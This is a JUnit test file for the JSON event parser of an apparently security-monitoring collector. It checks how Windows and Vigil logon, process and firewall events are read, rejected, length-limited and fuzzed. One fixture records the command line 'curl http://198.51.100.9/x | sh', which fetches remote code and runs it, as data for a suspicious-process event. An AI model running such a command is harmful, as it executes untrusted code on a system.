package io.vigil.collector.events.json;

import static io.vigil.collector.events.json.EventFiles.PARSER;
import static io.vigil.collector.events.json.EventFiles.accepted;
import static io.vigil.collector.events.json.EventFiles.describe;
import static io.vigil.collector.events.json.EventFiles.read;
import static io.vigil.collector.events.json.EventFiles.rejected;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.vigil.common.events.NormalizedEvent;
import java.math.BigInteger;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;

class JsonEventParserTest {

    private static final String VIGIL = "/events/vigil/";
    private static final String WINDOWS = "/events/windows/";
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Every field the parser reads, in either format. */
    private static final List<String> READ_FIELDS = List.of(
            "EventID",
            "Event",
            "System",
            "EventData",
            "UserData",
            "TimeCreated",
            "Computer",
            "MachineName",
            "Channel",
            "LogName",
            "Provider",
            "ProviderName",
            "TargetUserName",
            "SubjectUserName",
            "IpAddress",
            "IpPort",
            "LogonType",
            "ProcessName",
            "NewProcessName",
            "ParentProcessName",
            "CommandLine",
            "MemberName",
            "MemberSid",
            "Threat Name",
            "Process Name",
            "Detection User",
            "Direction",
            "SourceAddress",
            "SourcePort",
            "DestAddress",
            "DestPort",
            "Protocol",
            "Application",
            "time",
            "category",
            "action",
            "count",
            "host",
            "sourcePort",
            "destinationAddress",
            "account",
            "commandLine",
            "raw");

    @Test
    void readsAVigilEventWithEveryFieldItSends() {
        NormalizedEvent event = accepted(VIGIL + "valid-logon-failed.json");

        assertEquals(
                "Authentication/LogonFailed count=5 sourceAddress=203.0.113.7 sourcePort=40022 destinationPort=22"
                        + " protocol=TCP account=root logonType=password",
                describe(event));
        assertEquals(Instant.parse("2026-12-01T09:00:00.250Z"), event.time());
        assertEquals("web01 sshd", event.host() + " " + event.program());
        assertEquals("Failed password for root from 203.0.113.7 port 40022 ssh2", event.raw());
    }

    @Test
    void givesAVigilEventItsOwnIdWhateverItSends() {
        NormalizedEvent event = accepted(VIGIL + "valid-logon-failed.json");

        assertNotNull(event.id());
        assertNotEquals(UUID.fromString("00000000-0000-4000-8000-000000000001"), event.id());
    }

    @Test
    void countsAVigilEventOnceAndKeepsItsJsonWhenItSendsNoRawText() {
        JsonNode element = read(VIGIL + "minimal-process.json");

        NormalizedEvent event = accepted(element);

        assertEquals(
                "Process/ProcessCreated account=www-data process=/usr/bin/curl parentProcess=/bin/bash"
                        + " commandLine=curl http://198.51.100.9/x | sh",
                describe(event));
        assertEquals(element.toString(), event.raw());
    }

    @Test
    void rejectsAVigilEventWithAnActionThatIsNotOneOfItsValues() {
        String reason = rejected(read(VIGIL + "unknown-action.json"));

        assertTrue(reason.startsWith("action 'BruteForce' is not one of LogonFailed, LogonSucceeded,"), reason);
        assertTrue(reason.endsWith("ConnectionBlocked, Other"), reason);
    }

    @Test
    void rejectsAVigilEventWithoutItsTime() {
        assertEquals("time is missing", rejected(read(VIGIL + "missing-time.json")));
    }

    @Test
    void rejectsAVigilEventThatCountsNothing() {
        assertEquals(
                "count must be a whole number from 1 to 1000000", rejected(read(VIGIL + "count-out-of-range.json")));
    }

    @Test
    void readsEachElementOfABatchOnItsOwn() {
        JsonNode batch = read(WINDOWS + "mixed-batch.json");
        List<String> outcomes = new ArrayList<>();

        batch.forEach(element -> outcomes.add(outcome(PARSER.parse(element))));

        assertEquals(
                List.of(
                        "LogonFailed",
                        "rejected: an event must be a JSON object, not a number",
                        "rejected: EventID 'not a number' is not a whole number from 0 to 65535",
                        "rejected: an event must be a JSON object, not an array",
                        "rejected: neither a Windows event (no EventID or Event field)"
                                + " nor a Vigil event (no time, category or action field)",
                        "LogCleared",
                        "rejected: an event must be a JSON object, not null",
                        "LogonFailed"),
                outcomes);
    }

    @Test
    void rejectsNothingAtAllAsAnEvent() {
        assertEquals("an event must be a JSON object, not nothing", rejected(null));
    }

    @Test
    void rejectsAnEventLargerThanItsLimit() {
        ObjectNode element = vigilEvent().put("account", "a".repeat(JsonEventParser.MAX_ENTRY_LENGTH));

        assertEquals("event is longer than 131072 characters of JSON", rejected(element));
    }

    @Test
    void holdsNamesAndCommandLinesToTheirLengths() {
        String longestCommand = "c".repeat(JsonValues.MAX_TEXT_LENGTH);

        assertEquals(
                longestCommand,
                accepted(vigilEvent().put("commandLine", longestCommand)).commandLine());
        assertEquals(
                "commandLine is longer than 32768 characters",
                rejected(vigilEvent().put("commandLine", longestCommand + "c")));
        assertEquals(
                "account is longer than 1000 characters",
                rejected(vigilEvent().put("account", "a".repeat(JsonValues.MAX_NAME_LENGTH + 1))));
        assertEquals(
                "SubjectUserName is longer than 1000 characters",
                rejected(windowsEvent().put("SubjectUserName", "a".repeat(JsonValues.MAX_NAME_LENGTH + 1))));
    }

    @Test
    void rejectsAnEventNestedDeeperThanAnyExport() {
        ObjectNode element = windowsEvent();
        ObjectNode inner = element;
        for (int depth = 0; depth < 100_000; depth++) {
            inner = inner.putObject("Keywords");
        }

        assertEquals("event nests deeper than 32 levels", rejected(element));
    }

    @Test
    void answersEveryHostileValueInEveryFieldItReadsWithAResult() {
        List<JsonNode> hostile = List.of(
                NODES.arrayNode().add(1).add(NODES.objectNode()),
                NODES.objectNode().put("#text", "x").set("Value", NODES.arrayNode()),
                NODES.objectNode().set("#text", NODES.objectNode()),
                NODES.numberNode(new BigInteger("9".repeat(400))),
                NODES.numberNode(-1),
                NODES.numberNode(1e300),
                NODES.booleanNode(true),
                NODES.nullNode(),
                NODES.textNode(""),
                NODES.textNode("\u0000"),
                NODES.textNode("\uD800"),
                NODES.textNode("9".repeat(100_000)),
                NODES.textNode("/Date(999999999999999)/"),
                NODES.textNode("+999999999-12-31T23:59:59Z"));
        List<ObjectNode> templates = List.of(
                windowsEvent().put("EventID", 4624),
                windowsEvent().put("EventID", 4688),
                windowsEvent().put("EventID", 4732),
                windowsEvent().put("EventID", 1102),
                windowsEvent().put("EventID", 5157).put("Direction", "%%14592"),
                windowsEvent().put("EventID", 1116).put("Channel", "Microsoft-Windows-Windows Defender/Operational"),
                nestedEvent(),
                vigilEvent());

        int answered = 0;
        for (ObjectNode template : templates) {
            for (String field : READ_FIELDS) {
                for (JsonNode value : hostile) {
                    assertNotNull(PARSER.parse(template.deepCopy().set(field, value.deepCopy())), field);
                    answered++;
                }
            }
        }

        assertEquals(templates.size() * READ_FIELDS.size() * hostile.size(), answered);
    }

    private static ObjectNode vigilEvent() {
        return NODES.objectNode()
                .put("time", "2026-12-01T10:00:00Z")
                .put("category", "Process")
                .put("action", "ProcessCreated");
    }

    private static ObjectNode windowsEvent() {
        return NODES.objectNode()
                .put("EventID", 4688)
                .put("TimeCreated", "2026-12-01T10:00:00Z")
                .put("Channel", "Security");
    }

    private static ObjectNode nestedEvent() {
        ObjectNode element = NODES.objectNode();
        ObjectNode event = element.putObject("Event");
        event.putObject("System")
                .put("EventID", "4625")
                .putObject("TimeCreated")
                .put("@SystemTime", "2026-12-01T10:00:00Z");
        event.putObject("EventData")
                .putArray("Data")
                .addObject()
                .put("@Name", "TargetUserName")
                .put("#text", "x");
        return element;
    }

    private static String outcome(JsonEventResult result) {
        return result instanceof JsonEventResult.Accepted accepted
                ? accepted.event().action().name()
                : "rejected: " + ((JsonEventResult.Rejected) result).reason();
    }
}
